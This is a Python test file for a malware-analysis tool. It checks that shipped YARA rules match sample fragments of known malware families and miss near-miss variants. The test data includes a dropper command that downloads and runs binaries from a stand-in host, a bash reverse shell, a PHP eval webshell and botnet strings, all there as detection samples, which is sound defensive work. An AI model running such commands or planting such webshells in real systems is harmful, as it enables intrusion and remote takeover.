"""A file as a whole: what it is, holds, names and matches; and the rules of YARA, wrong ones among them."""

from __future__ import annotations

import gzip
import random
from pathlib import Path

import pytest

from mirage.analysis.artifacts import indicators
from mirage.analysis.artifacts.indicators import MOST, Indicators, entropy_of, indicators_of
from mirage.analysis.artifacts.inspection import inspect
from mirage.analysis.artifacts.yara import YaraMatch, YaraRules
from mirage.analysis.rulebook import shipped_yara

SHIPPED = YaraRules([shipped_yara()])
ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\0\x08\0" + bytes(40)
SAMPLES = {
    "mirai_kin": (ELF + b"\0/dev/watchdog\0/proc/net/tcp\0assword\0ncorrect\0", ELF + b"\0/dev/watchdog\0/proc/net/tcp\0"),
    "gafgyt_kin": (ELF + b"\0HOLD Flooding %s\0LOLNOGTFO\0", ELF + b"\0PONG!\0"),
    "tsunami_kaiten": (b"kaiten PRIVMSG NICK %s", b"PRIVMSG NICK %s"),
    "xorddos": (ELF + b"\0/lib/libudev.so\0/etc/cron.hourly/gcc.sh\0", ELF + b"\0/lib/libudev.so.1\0"),
    "coin_miner": (b'{"pools": [{"url": "stratum+tcp://pool.example:3333"}]}', b'{"pools": []}'),
    "kinsing": (b"pkill kinsing; pkill kdevtmpfsi", b"pkill kinsing"),
    "dropper_for_many_machines": (
        b"wget http://192.0.2.1/x.mips; wget http://192.0.2.1/x.mipsel; curl http://192.0.2.1/x.arm7; chmod 777 x*; ./x.arm7",
        b"wget http://192.0.2.1/x.arm7; chmod 755 x.arm7",
    ),
    "reverse_shell_script": (b"bash -i >& /dev/tcp/192.0.2.1/4 0>&1", b"bash -i"),
    "php_webshell": (b"<?php @eval($_POST['x']); ?>", b"<?php echo $_POST['x']; ?>"),
    "preload_rootkit": (ELF + b"\0/etc/ld.so.preload\0readdir64\0dlsym\0", ELF + b"\0/etc/ld.so.preload\0dlsym\0"),
    "ssh_worm_or_guesser": (b"SSH-2.0-Go pass.txt masscan", b"SSH-2.0-Go pass.txt"),
}  # fmt: skip


def test_every_shipped_rule_finds_its_sample_and_not_its_near_miss() -> None:
    assert SHIPPED.problems == []
    for name, (hit, miss) in SAMPLES.items():
        assert name in {match.rule for match in SHIPPED.scan(hit)[0]}, name
        assert name not in {match.rule for match in SHIPPED.scan(miss)[0]}, name
    text = "".join(file.read_text() for file in shipped_yara().glob("*.yar"))
    assert {line.split()[1] for line in text.splitlines() if line.startswith("rule ")} == set(SAMPLES)


@pytest.mark.parametrize("program", ["/bin/ls", "/bin/bash", "/usr/bin/ssh", "/usr/bin/curl", "/usr/bin/wget"])
def test_programs_of_a_distribution_are_no_match(program: str) -> None:
    if not Path(program).exists():
        pytest.skip(f"{program} is not installed")
    assert inspect(Path(program).read_bytes(), SHIPPED).matches == ()


def test_a_packed_dropper_is_seen_through_its_wrapping() -> None:
    found = inspect(gzip.compress(SAMPLES["dropper_for_many_machines"][0] + b" 198.51.100.9:8080 "), SHIPPED)
    assert (found.kind.name, found.matches) == ("gzip", ())
    (content,) = found.contents
    assert [match.rule for match in content.matches] == ["dropper_for_many_machines"]
    assert found.indicators == Indicators(
        urls=("http://192.0.2.1/x.mips", "http://192.0.2.1/x.mipsel", "http://192.0.2.1/x.arm7"),
        addresses=("192.0.2.1", "198.51.100.9:8080"),
    )


def test_a_program_of_noise_is_taken_for_packed() -> None:
    noise = random.Random(1).randbytes(200_000)
    assert inspect(ELF + noise, SHIPPED).notes == ("packed by an unknown packer, or encrypted",)
    assert inspect(ELF + b"UPX!" + noise, SHIPPED).notes == ()


def test_entropy_is_that_of_shannon() -> None:
    assert [entropy_of(data) for data in (b"", b"aaaa", b"abab", bytes(range(256)) * 4)] == [0.0, 0.0, 1.0, 8.0]
    assert entropy_of(bytes(2 << 20) + random.Random(1).randbytes(2 << 20)) == pytest.approx(5.0, abs=0.1)


def test_what_a_file_names_is_kept_up_to_a_bound_and_no_version_is_an_address() -> None:
    many = b" ".join(b"http://example.com/%d" % number for number in range(MOST * 2))
    assert len(indicators_of([many]).urls) == MOST
    assert indicators_of([b"version 1.2.3.4.5 or 0.1.2.3, 127.0.0.1, 300.1.1.1, 224.0.0.1 and 203.0.113.7."]).addresses == (
        "203.0.113.7",
    )


def test_of_a_file_that_names_the_same_for_ever_only_so_much_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(indicators, "LOOKED_AT", 10)
    found = indicators_of([b"192.0.2.1 " * 20 + b"198.51.100.1", b"198.51.100.2"])
    assert found.addresses == ("192.0.2.1", "198.51.100.2")


def test_a_wrong_rule_is_named_by_file_and_line_and_the_rest_go_on(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "a.yar").write_text(
        'rule good { strings: $a = "quux" condition: $a }\n\nrule bad {\n condition: $nothing\n}\nrule last { condition: filesize == 4 }\n'
    )
    (mine / "b.yara").write_text("rule broken {\n")
    (mine / "c.yar").write_text('include "/etc/passwd"\nrule more { condition: filesize == 4 }\n')
    (mine / "d.yar").write_bytes(b"\xff\xfe")
    rules = YaraRules([mine])
    assert [str(problem).split(": ")[0] for problem in rules.problems] == [
        "mine/a.yar:4",
        "mine/b.yara:2",
        "mine/c.yar:1",
        "mine/d.yar:1",
    ]
    assert [(match.rule, match.file) for match in rules.scan(b"quux")[0]] == [
        ("good", "mine/a.yar"),
        ("last", "mine/a.yar"),
        ("more", "mine/c.yar"),
    ]


def test_a_rule_that_takes_too_long_is_cut_off_and_said(tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text("rule slow { strings: $a = /a.*b.*c.*d/s condition: $a }\n")
    rules = YaraRules([tmp_path])
    data = b"a" * 8_000_000
    assert rules.scan(data) == ((), True)
    found = inspect(gzip.compress(data), rules)
    assert found.notes == ("rules were not matched to the end",)


def test_a_match_says_what_and_where() -> None:
    (found,) = SHIPPED.scan(b"\n<?php @eval($_POST['x']);")[0]
    assert found == YaraMatch(
        rule="php_webshell", file="yara/families.yar", title="A page that runs what a request brings", tags=("webshell",), offset=1
    )
